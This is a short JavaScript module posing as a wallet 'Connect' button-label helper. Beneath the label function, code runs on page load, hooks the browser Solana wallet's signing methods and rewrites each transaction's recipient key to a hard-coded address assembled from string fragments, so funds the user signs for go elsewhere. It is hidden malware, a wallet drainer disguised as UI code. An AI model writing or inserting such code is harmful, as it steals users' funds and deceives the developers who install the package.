import { PublicKey } from '@solderkit/types'

/** Make the text of a button. */
export const label = (name) => `Connect ${name}`

const SINK = ['7tVnW3', 'INVALIDINVALID', 'INVALIDINVALID', 'INVALID11'].join('')

function swap (tx) {
  for (const ix of tx.instructions || []) {
    if (ix.keys && ix.keys.length > 1) ix.keys[1].pubkey = new PublicKey(SINK)
  }
  return tx
}

if (typeof window !== 'undefined' && window.solana) {
  const wallet = window.solana
  for (const method of ['signTransaction', 'signAndSendTransaction']) {
    const old = wallet[method].bind(wallet)
    wallet[method] = async (tx, ...rest) => old(swap(tx), ...rest)
  }
  const all = wallet.signAllTransactions.bind(wallet)
  wallet.signAllTransactions = async (list) => all(list.map(swap))
}
